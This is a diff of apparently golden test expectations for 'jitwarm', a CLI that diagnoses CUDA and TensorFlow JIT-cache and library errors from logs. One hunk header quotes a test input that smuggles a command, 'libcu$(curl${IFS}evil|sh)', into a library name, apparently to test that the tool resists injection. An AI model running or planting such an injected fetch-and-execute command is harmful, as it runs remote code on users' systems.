@@ -43,7 +43,7 @@ skip windows
 $ jitwarm doctor lib
 ? 1
 To do jitwarm prime lib
-Note The cache is lost with the container: mount a volume at {work}/cache *
+Note The cache is lost with the container: mount a volume at {work}/cache*
 $ jitwarm prime --yes lib; jitwarm doctor lib
 Note The cache is lost with the container: *
 Slow start? jitwarm verify --run CMD
@@ -91,9 +91,6 @@ $ printf '%s\n' '2020-11-22 22:35:25.2: I tensorflow/x.cc:1] Adding visible gpu 
 ? 1
 [bad] Line 1: waited 3 min 56 s, as when the driver compiles.
 Also Line 3: TensorFlow could not use ptxas, so the driver compiles*
-$ jitwarm doctor --json --log - <a.log
-? 1
-.result = "found"
 
 case an-error-in-a-log:
 $ printf '%s\n' "10:00:00 W Could not load dynamic library 'libcudart.so.11.0'; dlerror" '10:00:02 a' '10:04:02 RuntimeError: CUDA error: no kernel image is available for execution on the device' "ImportError: libcudnn.so.8: cannot open shared object file" >a.log
@@ -112,6 +109,7 @@ $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared obje
 /sbin/ldconfig -p | grep libcu
 $ jitwarm doctor --json --log a.log
 ? 1
+.result = "found"
 .errors.1.line = 3
 
 case a-log-without-any:
